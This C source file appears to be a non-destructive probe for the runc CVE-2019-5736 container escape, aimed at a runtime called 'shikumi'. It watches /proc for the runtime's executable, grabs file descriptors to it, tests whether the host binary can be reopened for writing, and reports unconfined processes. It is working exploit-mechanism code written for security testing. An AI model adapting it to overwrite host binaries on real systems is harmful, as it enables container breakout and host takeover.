/* exegrab SECONDS: the attack of runc CVE-2019-5736, from inside a container. For SECONDS it
 * watches /proc for a process whose executable is shikumi (the runtime entering with `exec`,
 * or shikumi run as the interpreter of a script starting `#!/proc/self/exe`), and keeps an
 * O_PATH fd to each such executable. Then it tries to reopen each for writing, which on a
 * runtime without protection overwrites the host's binary (only when no process runs it
 * any more: until then the kernel refuses with ETXTBSY; this probe retries for 2 s).
 * Prints "caught LINK" for each one found, "write LINK: ok" or "write LINK: ERRNO-NAME" for
 * each try, and "caught N, written M" last. What it writes is the file's own first byte, back
 * in its place: a success proves the file writable and changes nothing.
 * Meanwhile it reads the status of every process it sees (readable even for a non-dumpable
 * one) and prints "unconfined PID CapEff=... Seccomp=N" for each seen with more capabilities
 * than its own or without a seccomp filter (an entering process caught before it was
 * confined), and "unconfined K" as the very last line. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_CAUGHT 64
#define MAX_PIDS   4096

/* A process's CapEff (as a number) and Seccomp mode from its status; false when gone. */
static bool confinement(const char *pid, unsigned long long *cap_eff, int *seccomp)
{
	char path[300], line[256];
	snprintf(path, sizeof(path), "/proc/%s/status", pid);
	FILE *f = fopen(path, "re");
	if (!f)
		return false;
	int got = 0;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "CapEff: %llx", cap_eff) == 1)
			got |= 1;
		else if (sscanf(line, "Seccomp: %d", seccomp) == 1)
			got |= 2;
	}
	fclose(f);
	return got == 3;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: exegrab SECONDS\n");
		return 2;
	}
	double end = now() + atof(argv[1]);
	int fds[MAX_CAUGHT];
	char links[MAX_CAUGHT][256];
	struct stat seen[MAX_CAUGHT];
	int n = 0;
	unsigned long long own_caps = 0;
	int own_seccomp = 0, unconfined = 0;
	confinement("self", &own_caps, &own_seccomp);
	static bool reported[MAX_PIDS];
	while (now() < end && n < MAX_CAUGHT) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9')
				continue;
			int pid = atoi(e->d_name);
			unsigned long long caps;
			int seccomp;
			if (pid > 0 && pid < MAX_PIDS && !reported[pid] &&
			    confinement(e->d_name, &caps, &seccomp) &&
			    ((caps & ~own_caps) || seccomp == 0)) {
				reported[pid] = true;
				unconfined++;
				printf("unconfined %d CapEff=%016llx Seccomp=%d\n", pid, caps,
				       seccomp);
				fflush(stdout);
			}
			char path[300], link[256];
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			ssize_t len = readlink(path, link, sizeof(link) - 1);
			if (len <= 0)
				continue;
			link[len] = '\0';
			if (!strstr(link, "shikumi"))
				continue;
			int fd = open(path, O_PATH | O_CLOEXEC);
			struct stat st;
			if (fd < 0 || fstat(fd, &st) < 0) {
				if (fd >= 0)
					close(fd);
				continue;
			}
			int k = 0;
			while (k < n &&
			       !(seen[k].st_dev == st.st_dev && seen[k].st_ino == st.st_ino))
				k++;
			if (k < n) {
				close(fd);
				continue;
			}
			seen[n] = st;
			fds[n] = fd;
			snprintf(links[n], sizeof(links[n]), "%s", link);
			printf("caught %s\n", link);
			n++;
		}
		if (d)
			closedir(d);
	}
	int written = 0;
	for (int k = 0; k < n; k++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[k]);
		int w = -1;
		for (double until = now() + 2; (w = open(path, O_WRONLY | O_CLOEXEC)) < 0 &&
					       errno == ETXTBSY && now() < until;)
			usleep(10000);
		char first;
		int r = open(path, O_RDONLY | O_CLOEXEC);
		bool ok =
		    w >= 0 && r >= 0 && pread(r, &first, 1, 0) == 1 && pwrite(w, &first, 1, 0) == 1;
		int e = errno;
		if (r >= 0)
			close(r);
		if (w >= 0)
			close(w);
		errno = e;
		if (ok) {
			written++;
			printf("write %s: ok\n", links[k]);
		} else {
			printf("write %s: %s\n", links[k], strerrorname_np(errno));
		}
	}
	printf("caught %d, written %d\n", n, written);
	printf("unconfined %d\n", unconfined);
	return 0;
}
